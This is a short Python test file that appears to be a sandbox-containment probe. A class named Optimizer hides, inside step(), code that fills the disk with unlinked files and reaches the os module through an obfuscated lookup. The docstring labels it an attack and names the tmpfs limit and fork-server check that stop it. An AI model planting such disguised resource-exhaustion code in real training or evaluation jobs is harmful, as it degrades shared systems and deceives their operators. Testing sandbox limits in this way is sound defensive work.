"""Attack: fills the disk with files that have no name any more, for as long as it lives.

Exercise: optimizer
Earns: 0
Stopped by: tmpfs of fixed size; at container the fork server counts them and kills
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())

import time


def look():
    held = []
    for i in range(200):
        try:
            handle = os.open(f"own{i}", 0o102)
            held.append(handle)
            os.unlink(f"own{i}")
            os.write(handle, bytes(8 * 2**20))
        except OSError:
            break
    time.sleep(0.5)
    if sum(os.fstat(handle).st_blocks for handle in held) * 512 > 256 * 2**20:
        print("BREACH a quarter of a gigabyte")


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
